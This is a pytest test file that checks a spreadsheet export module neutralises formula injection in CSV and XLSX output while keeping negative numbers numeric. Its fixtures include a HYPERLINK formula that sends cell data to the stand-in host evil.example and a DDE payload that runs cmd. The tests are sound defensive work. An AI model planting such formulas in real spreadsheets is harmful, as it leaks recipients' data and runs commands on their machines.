"""The one rule for spreadsheet cells: a formula-like text is written as text, numbers stay numbers."""

import io
import zipfile

import pandas as pd
import pytest
from openpyxl import load_workbook

from api import exports
from kernel.spreadsheets import csv_bytes, csv_restore, csv_value, formula_like, xlsx_table

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
TRIGGERS = [HYPERLINK, "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "=1"]


@pytest.mark.parametrize("text", TRIGGERS)
def test_formula_like_text_gets_a_quote_in_csv_and_comes_back(text):
    assert formula_like(text)
    assert csv_value(text) == "'" + text
    assert csv_restore(csv_value(text)) == text


@pytest.mark.parametrize("value", ["Đăng ký khai sinh", "-5", "+84", "-1.5e3", "", "'quoted", "a=b", -5, -2.5, 0, None])
def test_plain_text_and_numbers_are_left_alone(value):
    assert csv_value(value) == value
    assert csv_restore(value) == value


@pytest.mark.parametrize("text", ["'=1+1", "''@x", "'-1+2"])
def test_a_text_that_already_starts_with_a_quote_round_trips(text):
    assert csv_value(text) == "'" + text
    assert csv_restore(csv_value(text)) == text


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


def _frame() -> pd.DataFrame:
    figures = {key: [0, 0] for _, subs in exports.PERIOD_FORM for _, key in subs}
    return pd.DataFrame(
        {
            **figures,
            "group": ["1.000001", "total"],
            "procedure_name": [HYPERLINK, "Tổng"],
            "applicant_name": ["@SUM(1+1)*cmd|' /C calc'!A0", "Nguyễn Văn A"],
            "working_days_left": [-2.5, 3.0],
            "total": [-1, 4],
        }
    )


def test_csv_writer_neutralises_every_text_column_and_keeps_negative_numbers():
    text = exports._csv(_frame()).decode("utf-8-sig")
    rows = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False).to_dict("records")
    assert rows[0]["procedure_name"] == "'" + HYPERLINK
    assert rows[0]["applicant_name"].startswith("'@SUM")
    assert rows[0]["working_days_left"] == "-2.5" and rows[0]["total"] == "-1"
    assert csv_bytes(pd.DataFrame({"x": ["=1"]}), bom=False) == b"x\n'=1\n"


@pytest.mark.parametrize(
    "content",
    [
        lambda frame: exports.table_xlsx(frame, title="=title", totals=True),
        lambda frame: exports.period_form_xlsx(frame, group_by="procedure", title="=t", subtitle="-s"),
        lambda frame: xlsx_table(list(frame.columns), frame.itertuples(index=False), sheet_title="t"),
    ],
    ids=["table", "period form", "catalogue table"],
)
def test_xlsx_writers_write_formula_like_text_as_text_cells(content):
    data = content(_frame())
    assert "<f>" not in _sheet_xml(data)  # not one formula in the file
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    texts = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    hyperlink = texts[HYPERLINK]
    assert hyperlink.data_type == "s" and hyperlink.quotePrefix
    assert all(cell.data_type == "s" for cell in texts.values())
    numbers = [cell.value for cell in cells if cell.data_type == "n"]
    assert -2.5 in numbers or -1 in numbers  # a negative number is still a number
